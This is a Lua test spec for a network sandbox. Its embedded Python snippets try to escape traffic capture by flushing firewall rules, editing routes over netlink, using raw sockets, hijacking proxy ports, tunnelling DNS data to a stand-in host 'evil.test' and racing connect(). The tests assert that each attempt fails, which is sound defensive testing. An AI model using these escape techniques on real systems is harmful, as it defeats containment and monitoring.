-- SPDX-License-Identifier: Apache-2.0
-- escapes_capture_spec.lua - ways around capture, from inside: each fails, nothing of it reaches a
-- server of the host, and in the same sandbox an allowed name is still served, another refused.

local fenced = require "spec.support.fenced"
local origin = require "spec.support.origin"
local process = require "spec.support.process"
local restricted = require "spec.support.restricted"
local sandbox = require "spec.support.sandbox"
local users = require "spec.support.users"

local here = debug.getinfo(1, "S").source:match("^@(.*)e2e/[^/]*$")
local prelude = fenced.read_file(here .. "support/escapes_capture.py")

-- name, the attempt, what it prints (a pattern); `connections`: how many reach the origin, with the
-- one at the end, where it is not that alone
local rows = {
  -- ---- the rules and the network ----
  { "its routes, by netlink", [[
rule = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0)
print(netlink(NETLINK_ROUTE, rule, 25), netlink(NETLINK_ROUTE, rule, 24, 0x400))]],
    "^EPERM EPERM" },
  { "its addresses, by netlink", [[
mine = struct.pack("=BBBBI", 2, 32, 0, 0, 1) + attribute(2, bytes([198, 19, 255, 254]))
print(netlink(NETLINK_ROUTE, mine, 21), netlink(NETLINK_ROUTE, mine, 20, 0x400))]],
    "^EPERM EPERM" },
  { "its interface, by netlink and ioctl", [[
print(netlink(NETLINK_ROUTE, struct.pack("=BBHiII", 0, 0, 0, 1, 0, 1), 16))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    print(refused(fcntl.ioctl, s, 0x8914, struct.pack("16sH14x", b"lo", 0)))]],
    "^EPERM\nEPERM" },
  { "the tables of nf_tables", [[
begin = struct.pack("=IHHIIBBH", 20, 16, 1, 1, 0, 0, 0, 10 << 8)
def batch(kind, body):
    inner = struct.pack("=BBH", 1, 0, 0) + body
    middle = struct.pack("=IHHII", 16 + len(inner), 10 << 8 | kind, 5, 2, 0) + inner
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_NETFILTER); s.settimeout(2)
    end = struct.pack("=IHHIIBBH", 20, 17, 1, 3, 0, 0, 0, 10 << 8)
    s.sendto(begin + middle + end, (0, 0))
    return errno.errorcode.get(-struct.unpack_from("=i", s.recv(65536), 16)[0], "OK")
get("good.test")  # the rules are there
print(batch(2, b""), batch(2, attribute(1, b"fence\0")), batch(0, attribute(1, b"mine\0")))]],
    "^EPERM EPERM EPERM", connections = 2 },
  { "nft, ip, unshare, nsenter", [[
for words in ("nft flush ruleset", "ip link set lo down", "ip route flush table local",
              "unshare -Urn true", "unshare -Ur nft flush ruleset", "nsenter -t 1 -n true",
              "iptables -F"):
    done = subprocess.run(["sh", "-c", words], capture_output=True)
    print("works" if done.returncode == 0 else "fails")]], "^" .. ("fails\n"):rep(7) },
  { "the owner of its network", [[
fd = os.open("/proc/self/ns/net", os.O_RDONLY)
owner = refused(fcntl.ioctl, fd, 0xb701)
print(owner, "EPERM" if libc.setns(fd, 0x40000000) < 0 else "entered",
      "EPERM" if libc.setns(fd, 0x10000000) < 0 else "entered")]], "^E?%w+ EPERM EPERM" },

  -- ---- other sockets ----
  { "raw and packet sockets", [[
for family, kind, protocol in ((2, 3, 1), (2, 3, 6), (2, 3, 255), (10, 3, 58), (17, 3, 3),
                               (17, 2, 3)):
    print(refused(lambda: socket.socket(family, kind, protocol) and "made"))]],
    "^" .. ("E%w+\n"):rep(6) },
  { "other families and protocols", [[
for family, kind, protocol in ((2, 1, 132), (2, 5, 132), (2, 6, 33), (40, 1, 0), (21, 5, 0),
                               (30, 5, 0), (44, 3, 0), (38, 5, 0), (29, 3, 1), (2, 1, 262)):
    s = refused(lambda: socket.socket(family, kind, protocol))
    if isinstance(s, socket.socket):
        s.settimeout(2)
        s = refused(s.connect, ("203.0.113.7", PORT)) if family == 2 else "made"
        s = "captured" if s is None else s
    print(s)]], "^" .. ("E%w+\n"):rep(9) .. "[Ec]%w+\n" },
  { "options that need a capability", [[
for level, name, value in ((0, 19, 1), (1, 36, 1), (0, 7, 1), (41, 75, 1), (1, 33, 1),
                           (1, 32, 1 << 20)):
    s = socket.socket(socket.AF_INET6 if level == 41 else socket.AF_INET)
    print(refused(lambda: s.setsockopt(level, name, value)) or "set")]],
    "^EPERM\nEPERM\n[^\n]+\nEPERM\nEPERM\nE?%w+\n" },
  { "another source", [[
s = socket.socket(); s.setsockopt(0, 15, 1)  # IP_FREEBIND
print(refused(s.bind, ("8.8.8.8", 0)) or "bound")
s.settimeout(3)
print(refused(s.connect, (socket.gethostbyname("evil.test"), PORT)) or
      refused(lambda: s.sendall(b"GET / HTTP/1.0\r\n\r\n") or s.recv(99)[9:12]))]],
    "^%w+\n[^\n]+\n" },
  { "another interface", [[
s = socket.socket(); print(refused(s.setsockopt, 1, 25, b"lo\0") or "bound"); s.settimeout(3)
print(refused(s.connect, (socket.gethostbyname("evil.test"), PORT)) or
      refused(lambda: s.sendall(b"GET / HTTP/1.0\r\n\r\n") or s.recv(99)[9:12]))]],
    "^%w+\n[^\n]+\n" },
  { "datagrams and QUIC", [[
for place in ("203.0.113.7", "good.test", OWN4, "127.0.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.connect((place, 443)); s.send(b"x"); print(refused(s.recv, 9))]],
    "^" .. ("ECONNREFUSED\n"):rep(4) },

  -- ---- the ports that are fence's ----
  { "its ports, bound", [[
def try_all(*options):
    for kind, port in ((1, 3128), (1, 1080), (1, 3129), (1, 53), (2, 53)):
        for family, place in ((2, "127.0.0.1"), (2, "0.0.0.0"), (2, OWN4), (10, "::"), (10, "::1"),
                              (10, OWN6)):
            said = refused(bound, family, kind, (place, port), *options)
            yield said if isinstance(said, str) else "bound %s %d" % (place, port)
once = set(try_all()) | set(try_all((1, 2, 1))) | set(try_all((1, 15, 1))) | set(
    try_all((1, 2, 1), (1, 15, 1)))
print(*sorted(s for s in once if s not in ("EADDRINUSE", "EACCES", "EADDRNOTAVAIL")))]],
    "^[^\n]*\n", judge = "ports" },
  { "an allowed name's place, taken by a server inside", [[
place = socket.gethostbyname("good.test")
server = bound(socket.AF_INET, socket.SOCK_STREAM, (place, PORT))
print(get("good.test"))]], "^200 plain\n", connections = 2 },
  { "all places, taken by a server inside", [[
server = bound(socket.AF_INET6, socket.SOCK_STREAM, ("::", PORT), (1, 2, 1))
print(get("good.test"), get("evil.test", "evil.test").split(" ")[0])]],
    "^200 plain 403\n", connections = 2 },
  { "its ports by all its addresses", [[
for place in (OWN4, "127.0.0.1", "127.9.9.9", "198.18.0.99"):
    for port in (3129, 53):
        def say():
            s = socket.create_connection((place, port), 3)
            s.sendall(b"GET http://evil.test:%d/ HTTP/1.1\r\nHost: evil.test\r\n\r\n" % PORT)
            return "answer" if b"plain" in s.recv(999) else "nothing"
        print(refused(say))]], "^[^\n]+\n", judge = "no answer" },

  -- ---- addresses and names ----
  { "an allowed name's address, by itself", [[
print(get("127.0.0.1"), get("203.0.113.7").split(" ")[0], get("::1"))]],
    "^ECONNREFUSED 403 ECONNREFUSED" },
  { "addresses that were not given out", [[
print(get("198.18.77.77"), get("fdfe:ce0::7:7"), get("198.19.255.253"))]],
    "^E%w+ E%w+ E%w+\n" },
  { "another name by an allowed one's address", [[
print(get("good.test", "evil.test").split(" ")[0])]], "^403\n", connections = 2 }, -- not asked
  { "the TLS name of another by an allowed one's address", [[
import ssl
context = ssl._create_unverified_context()
with socket.create_connection(("good.test", PORT), 5) as s:
    try: context.wrap_socket(s, server_hostname="evil.test")
    except ssl.SSLError as error: print(error.reason)]], "^TLSV1_ALERT_ACCESS_DENIED\n",
    connections = 2 },
  { "answers to questions that nobody asked", [[
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(question("good.test", flags=0x8180), ("8.8.8.8", 53))  # an answer, to the service
print(refused(s.recv, 999))
spoof = refused(bound, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53))
print(spoof if isinstance(spoof, str) else "bound")]], "^[^\n]+\nE%w+\n" },
  { "questions that are none", [[
loop = question("good.test")[:12] + b"\xc0\x0c\0\1\0\1"
for message in (loop, b"", b"\0" * 11, b"\xff" * 512, question("good.test")[:20]):
    refused(ask, message, "8.8.8.8", 0.2)
print("asked")]], "^asked\n" },
  { "3D.90 data in names", [[
for label in ("a" * 60, "b" * 60, "c" * 60):
    for kind in (1, 28, 16, 10, 5, 255, 65, 15, 33):
        said = ask(question(label + "." + label + ".evil.test", kind=kind))
        assert kind in (1, 28, 255) or said[6:8] == b"\0\0"
print("asked")]], "^asked\n" },
  { "200,000 names", [[
first = ask(question("good.test"))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("8.8.8.8", 53)); s.setblocking(False)
done = asked = 0
while asked < 200000:
    for _ in range(50):
        asked += 1
        try: s.send(question("n%d.evil.test" % asked, asked & 0xffff))
        except BlockingIOError: break
    try:
        while s.recv(512): done += 1
    except BlockingIOError: pass
print(asked >= 200000 and done > 20000)]], "^True\n", memory = 64 * 1024 },

  -- ---- many ----
  { "2,000 that say nothing", [[
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
all = []
for name in ("good.test", "evil.test"):
    place = socket.gethostbyname(name)
    for i in range(1000):
        s = socket.socket(); s.setblocking(False); s.connect_ex((place, PORT)); all.append(s)
print(get("good.test", timeout=20))
for s in all: s.close()
time.sleep(1)]], "^200 plain\n", connections = false },
  { "5,000 that come and go", [[
place = socket.gethostbyname("evil.test")
for i in range(5000):
    with socket.socket() as s:
        s.setblocking(False); s.connect_ex((place, PORT))
print("done")]], "^done\n" },
}

-- The most memory that it and what it has waited for had at once, in KiB.
local measured = [[
import resource, subprocess, sys
code = subprocess.run(sys.argv[1:]).returncode
print("most:", resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)
sys.exit(code)]]

-- Where fence connects in the caller's place.
local races = {
  { "the address is changed while it connects", [[
good, evil = socket.gethostbyname("good.test"), socket.gethostbyname("evil.test")
class At(ctypes.Structure):
    _fields_ = [("family", ctypes.c_uint16), ("port", ctypes.c_uint16),
                ("addr", ctypes.c_uint8 * 4), ("zero", ctypes.c_uint8 * 8)]
at = At(2, socket.htons(PORT), (ctypes.c_uint8 * 4)(*socket.inet_aton(good)))
over = False
def flip():
    while not over:
        at.addr[:] = list(socket.inet_aton(evil)); at.addr[:] = list(socket.inet_aton(good))
threading.Thread(target=flip).start()
seen = set()
for i in range(300):
    with socket.socket() as s:
        s.settimeout(3)
        if libc.connect(s.fileno(), ctypes.byref(at), 16) == 0:
            try:
                s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" % PORT)
                seen.add(s.recv(99).split(b" ")[1])
            except OSError: seen.add(b"reset")
over = True
print(b"200" in seen)]], "^False\n" },
  { "the descriptor is another socket while it connects", [[
good, evil = socket.gethostbyname("good.test"), socket.gethostbyname("evil.test")
first = socket.socket()
over, mine = False, os.dup(first.fileno())
def swap():
    while not over:
        with socket.socket() as s: os.dup2(s.fileno(), mine)
threading.Thread(target=swap).start()
seen = set()
for i in range(300):
    try:
        s = socket.socket(fileno=os.dup(mine)); s.settimeout(3); s.connect((evil, PORT))
        s.sendall(b"GET / HTTP/1.1\r\nHost: good.test:%d\r\n\r\n" % PORT)
        seen.add(s.recv(99).split(b" ")[1]); s.close()
    except OSError: seen.add(b"error")
over = True
print(b"200" in seen)]], "^False\n" },
  { "a source port is used again", [[
good, evil = socket.gethostbyname("good.test"), socket.gethostbyname("evil.test")
seen = set()
for i in range(200):
    for place, host in ((good, b"good.test"), (evil, b"good.test")):
        with socket.socket() as s:
            s.setsockopt(1, 2, 1); s.settimeout(3)
            try:
                s.bind(("127.0.0.1", 40000 + i % 3)); s.connect((place, PORT))
                s.sendall(b"GET / HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, PORT))
                said = s.recv(99).split(b" ")[1]
            except OSError: said = b"error"
            s.setsockopt(1, 13, struct.pack("ii", 1, 0))
            if place == evil: seen.add(said)
print(b"200" in seen)]], "^False\n" },
}

for _, identity in ipairs(users.identities()) do
  describe("around capture, as " .. identity .. ":", function()
    local plain

    -- evil.test leads there, too: whoever reaches it is answered.
    lazy_setup(function()
      plain = origin.http("plain")
    end)
    lazy_teardown(function()
      plain:close()
    end)

    local function row(name, fn)
      it(name, function()
        sandbox.require_sandbox(pending, identity)
        fn()
      end)
    end

    local function run(attempt, around)
      local settings = fenced.settings({ "good.test" })
      settings.network.hosts["evil.test"] = "127.0.0.1"
      settings.network.proxyVariables = false
      local argv = fenced.argv({ as_user = identity, settings = settings, args = {},
        argv = { "/usr/bin/python3", "-c", prelude .. attempt .. "\nfinish()\n",
          tostring(plain.port) } })
      plain.connections, plain.requests = 0, {}
      return process.run({ as_user = identity, timeout = 90000,
        argv = around and around(argv) or argv })
    end

    -- Nobody but good.test was ever asked for.
    local function check(result, says)
      assert.matches(says, result.out, result.err)
      assert.matches("\nafter: 200 plain 403\n$", "\n" .. result.out, result.err)
      for _, request in ipairs(plain.requests) do
        assert.is_nil(request.head:lower():find("evil", 1, true), request.head)
      end
    end

    for _, case in ipairs(rows) do
      row("3J.189 " .. case[1], function()
        local result = run(case[2], case.memory and function(argv)
          return table.move(argv, 1, #argv, 4, { "/usr/bin/python3", "-c", measured })
        end)
        check(result, case[3])
        if case.memory then
          assert.is_true(tonumber(result.err:match("most: (%d+)")) < case.memory, result.err)
        end
        if case.judge == "ports" then
          for place, port in result.out:gmatch("bound (%S+) (%d+)") do -- what nobody is told of
            assert.is_true(port ~= "53" and (place:match("^198") or place:match("^fdfe") or
              (place == "::1" and port ~= "3129")) and true, result.out)
          end
        elseif case.judge == "no answer" then
          assert.is_nil(result.out:find("answer", 1, true), result.out)
        end
        if case.connections ~= false then -- none but those of allowed requests
          assert.equal(case.connections or 1, plain.connections, result.out)
        end
      end)
    end

    for _, case in ipairs(races) do
      row("3J.189 by connecting: " .. case[1], function()
        check(run(case[2], function(argv)
          return restricted.refusing("netfilter:EPROTONOSUPPORT", argv)
        end), case[3])
      end)
    end
  end)
end
